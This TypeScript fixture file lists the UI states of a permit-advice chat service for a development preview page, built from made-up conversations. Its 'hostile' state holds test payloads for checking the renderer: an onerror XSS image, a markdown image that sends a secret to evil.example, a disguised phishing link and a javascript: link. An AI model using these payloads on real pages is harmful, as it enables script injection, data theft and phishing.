/**
 * Every state that the pages can be in, for the page that shows them all while the service is developed. Made-up conversations, and from
 * there on the real fold, views and templates: there is no second way to draw anything.
 */
import type { Conversation } from '../conversation/conversation.ts'
import type { RandomBytes } from '../conversation/ids.ts'
import { sayPersonal } from '../page/personal-words.ts'
import { fill } from '../page/page-data.ts'
import type { ServiceProfile } from '../service-profile/service-profile.ts'
import type { ChatPageOptions } from './chat-page.ts'
import type { ErrorPage } from './gateway-context.ts'
import { createStory, type Story } from './state-story.ts'
import { ENGLISH } from './words.ts'

/** The tables of the design, in their order. */
export const STATE_TABLES = {
  connection: 'Connection',
  question: 'The person’s own message',
  answer: 'The answer',
  form: 'Form messages',
  session: 'Session ending',
  service: 'What the team says of the service',
} as const
export type StateTable = keyof typeof STATE_TABLES

interface About {
  /** Last part of its address. */
  readonly slug: string
  readonly table: StateTable
  readonly name: string
  readonly when: string
}

/** A chat page, or the page about a request that failed. */
export type State = About & (ChatState | FailureState)

const of =
  (table: StateTable) =>
  (slug: string, name: string, when: string): About => ({ slug, table, name, when })

interface ChatState {
  readonly type: 'chat'
  readonly conversation: Conversation
  readonly options: ChatPageOptions
  readonly profile: Partial<ServiceProfile>
  /** The agent is away. */
  readonly isLimited: boolean
  /** Answers took so long lately; `undefined`: not long. */
  readonly answersTakeMs: number | undefined
  /** Until the conversation closes, in milliseconds. */
  readonly leftMs: number
}

interface FailureState {
  readonly type: 'failure'
  readonly page: ErrorPage
}

const HOUR_MS = 3_600_000
const QUESTION = 'How long does a permit take?'
const ANSWER = [
  'A standard permit takes **about six weeks**. You can [apply for a permit](https://www.gov.uk/apply-for-a-permit) online.',
  '### What you need\n\n1. a map of the place\n2. your plan, with\n   - the work\n   - the dates',
  '| Permit | Time | Fee |\n|---|---|---|\n| Standard | 6 weeks | £170 |\n| Bespoke | 13 weeks | £1,015 |',
  'Some people also use [a guide](https://example.com/permits) to prepare.',
].join('\n\n')
const HALF = 'A standard permit takes **about six weeks**.\n\nYou can apply onl'
const HELP =
  'Sorry, the assistant is not working at the moment. Your question has been kept. It will be answered when the assistant is working again.\n\nThis page may help:\n\n- [If an answer is slow](/help/slow-answers): Why an answer can take long, and what to do.\n\nIf you need an answer now, [get help another way](#other-help).'

/** All states that the server draws. @param now - milliseconds since the epoch */
export function serverStates(now: number, random: RandomBytes): readonly State[] {
  const tell = (about: (story: Story) => void): Conversation => {
    const story = createStory(now, random)
    about(story)
    return story.conversation
  }
  const chat = (about: About, says: (story: Story) => void, more: Partial<Omit<ChatState, 'type' | 'conversation'>> = {}): State => ({
    ...about,
    type: 'chat',
    conversation: tell(says),
    options: {},
    profile: {},
    isLimited: false,
    answersTakeMs: undefined,
    leftMs: 24 * HOUR_MS,
    ...more,
  })
  return [...connectionStates(chat), ...questionStates(chat), ...answerStates(chat), ...formStates(chat), ...serviceStates(chat)]
}

type Chat = (about: About, says: (story: Story) => void, more?: Partial<Omit<ChatState, 'type' | 'conversation'>>) => State

const answered = (story: Story): void => void story.ask(QUESTION).begin().say(ANSWER).end('complete')

const connectionStates = (chat: Chat): readonly State[] => [
  chat({ slug: 'connected', table: 'connection', name: 'Connected', when: 'transport ready; nothing is said' }, answered),
  chat({ slug: 'limited', table: 'connection', name: 'Limited', when: 'the agent is down and the store works' }, answered, {
    isLimited: true,
  }),
  chat({ slug: 'slow', table: 'connection', name: 'Slow', when: 'answers took minutes lately' }, answered, { answersTakeMs: 120_000 }),
]

function questionStates(chat: Chat): readonly State[] {
  const about = of('question')
  return [
    chat(about('empty', 'Nothing asked yet', 'a new conversation'), () => undefined),
    chat(about('queued', 'Queued, with places', 'stored; the agent is busy or down'), (story) => {
      story.ask(QUESTION)
      story.ask('And a bespoke one?')
      story.ask('Can I pay by card?')
    }),
    chat(about('delivered', 'Delivered', 'the agent has it'), (story) => void story.ask(QUESTION).begin()),
    chat(
      about('stopping', 'Stopping', 'somebody asked for it to stop'),
      (story) => void story.ask(QUESTION).begin().say(HALF).wishToStop(),
    ),
    chat(about('cancelled', 'Cancelled', 'stopped while it waited'), (story) => void story.ask(QUESTION).end('stopped', 'asked-to-stop')),
    chat(
      about('question-expired', 'Too old to be asked', 'nobody could answer for a day'),
      (story) => void story.ask(QUESTION).end('expired', 'expired'),
    ),
    chat(
      about('question-failed', 'Failed before an answer began', 'the agent could not be reached'),
      (story) => void story.ask(QUESTION).end('failed', 'agent-unreachable'),
    ),
  ]
}

function answerStates(chat: Chat): readonly State[] {
  const about = of('answer')
  const ended = (slug: string, name: string, how: (story: Story) => void): State => chat(about(slug, name, 'the turn has ended'), how)
  return [
    chat(about('waiting', 'Waiting', 'nothing has been said yet'), (story) => void story.ask(QUESTION).begin()),
    chat(about('streaming', 'Streaming', 'block by block, and the rest as text'), (story) => void story.ask(QUESTION).begin().say(HALF)),
    ended('complete', 'Complete, with pages', answered),
    ended(
      'complete-plain',
      'Complete, without links',
      (story) => void story.ask(QUESTION).begin().say('About six weeks.', 'Permits').end('complete'),
    ),
    ended('stopped', 'Stopped', (story) => void story.ask(QUESTION).begin().say(HALF).end('stopped', 'asked-to-stop')),
    ended('interrupted', 'Interrupted', (story) => void story.ask(QUESTION).begin().say(HALF).end('interrupted', 'agent-broke-off')),
    ended('too-long', 'Too long', (story) => void story.ask(QUESTION).begin().say(HALF).end('interrupted', 'too-long')),
    ended('cut-short', 'Cut short by a filter', (story) => void story.ask(QUESTION).begin().say(HALF).end('interrupted', 'withheld')),
    ended('superseded', 'Cut off and asked again', (story) => {
      story.ask(QUESTION).begin().say(HALF).supersede().begin().say('About six weeks.').end('complete')
    }),
    chat(
      about('fallback', 'Fallback', 'the agent is away; other help is shown'),
      (story) => void story.ask(QUESTION).help(HELP, 'circuit-breaker-open'),
      {
        isLimited: true,
        profile: { organisation: 'Environment Agency' },
      },
    ),
    chat(
      about('refused', 'Refused', 'the agent will not answer this'),
      (story) => void story.ask('Who will win?').begin().end('failed', 'withheld'),
      { profile: { topic: 'environmental permits' } },
    ),
    ended('timed-out', 'Timed out', (story) => void story.ask(QUESTION).begin().end('failed', 'first-token-timeout')),
    ended('failed', 'Failed', (story) => void story.ask(QUESTION).begin().end('failed', 'agent-error')),
    ended('hostile', 'Hostile', (story) => {
      story
        .ask(`What about ${'w'.repeat(200)}?`)
        .begin()
        .say(HOSTILE)
        .end('complete')
    }),
  ]
}

const HOSTILE = [
  '<img src=x onerror=alert(1)> ![x](https://evil.example/?d=SECRET)',
  '[https://www.gov.uk](https://evil.example/login) [a](javascript:alert(1))',
  `\`\`\`\n${'very_long_code_'.repeat(20)}\n\`\`\``,
  `| ${'wide | '.repeat(14)}\n|${'---|'.repeat(14)}\n| ${'cell | '.repeat(14)}`,
  `> ${'q'.repeat(150)}`,
].join('\n\n')

const failure = (described: About, [status, code]: readonly [number, string], keptText?: string): State => ({
  ...described,
  type: 'failure',
  page: { status, code, title: described.name, message: described.when, reference: '7F3K-2Q', keptText },
})

function formStates(chat: Chat): readonly State[] {
  const about = of('form')
  const form = (slug: string, name: string, when: string, options: ChatPageOptions): State =>
    chat(about(slug, name, when), answered, { options })
  const { problems } = ENGLISH.live
  const kinds = ['national-insurance-number'] as const
  return [
    form('problem-empty', 'Empty', 'nothing was typed', { typed: '', problem: problems.empty }),
    form('problem-too-long', 'Too long', 'more than 2,000 characters', { typed: 'Long? '.repeat(400), problem: problems['too-long'] }),
    form('personal-warn', 'Personal information, asked about', 'it may be in the question', {
      typed: 'My number is AB123456C.',
      warning: sayPersonal('warn', kinds, ENGLISH.live),
    }),
    form('personal-block', 'Personal information, refused', 'the team blocks it', {
      typed: 'My number is AB123456C.',
      problem: sayPersonal('block', kinds, ENGLISH.live),
    }),
    form('rate', 'Rate limit', 'too many questions in a minute', { typed: QUESTION, notice: fill(ENGLISH.chat.rate, { seconds: 4 }) }),
    form('overload', 'Too many questions wait', 'as many as may be open', { typed: QUESTION, notice: ENGLISH.live.overload }),
    failure(
      about('closed', 'Session ended, with text', 'a question to a conversation that is no more'),
      [404, 'SESSION_NOT_FOUND'],
      QUESTION,
    ),
    failure(about('closed-empty', 'Session ended', 'a conversation that is no more'), [404, 'SESSION_NOT_FOUND']),
    failure(about('old-form', 'Old form, with text', 'its token is of another visitor or secret'), [403, 'FORM_EXPIRED'], QUESTION),
    failure(about('error-500', 'Something broke, with text', 'nobody knows whether it was stored'), [500, 'INTERNAL_ERROR'], QUESTION),
    failure(about('error-503', 'The store is away', 'reading'), [503, 'STORE_UNAVAILABLE']),
    failure(about('error-404', 'No such page', 'a wrong address'), [404, 'NOT_FOUND']),
    failure(about('error-429', 'Too many conversations begun', 'a limit of the address'), [429, 'RATE_LIMITED']),
  ]
}

function serviceStates(chat: Chat): readonly State[] {
  const about = of('service')
  const contact: ServiceProfile['contact'] = {
    paragraphs: ['Our advisers can help in English and Welsh.'],
    telephone: '0300 020 0301',
    hours: 'Monday to Friday, 8am to 6pm',
    email: 'permits@example.gov.uk',
    links: [{ text: 'Write to us', href: 'https://www.gov.uk/contact' }],
  }
  const notice: ServiceProfile['notice'] = {
    heading: 'Answers are slower than usual',
    paragraphs: ['We are working on it.'],
    link: { text: 'Service status', href: 'https://status.example.gov.uk/' },
  }
  return [
    chat({ slug: 'ending', table: 'session', name: 'Two minutes left', when: 'the conversation is about to close' }, answered, {
      leftMs: 110_000,
    }),
    chat(about('whole', 'Everything said', 'phase, notice, contact, organisation'), answered, {
      profile: {
        topic: 'environmental permits',
        organisation: 'Environment Agency',
        assistant: 'Permit assistant',
        phase: { name: 'beta', feedbackHref: 'https://www.gov.uk/feedback' },
        contact,
        notice,
        footerLinks: [{ text: 'Terms and conditions', href: '/help/terms' }],
      },
    }),
    chat(about('switched-off', 'Switched off', 'the team takes no questions'), answered, {
      profile: { questions: { areOpen: false, paragraphs: ['You can ask questions again on Monday.'] } },
    }),
    chat(about('switched-off-kept', 'Switched off while somebody typed', 'a question came all the same'), answered, {
      profile: { questions: { areOpen: false, paragraphs: [] } },
      options: { typed: QUESTION },
    }),
    chat(about('refreshing', 'Refreshing', 'the person asked for it'), (story) => void story.ask(QUESTION).begin(), {
      options: { refreshes: true },
    }),
  ]
}
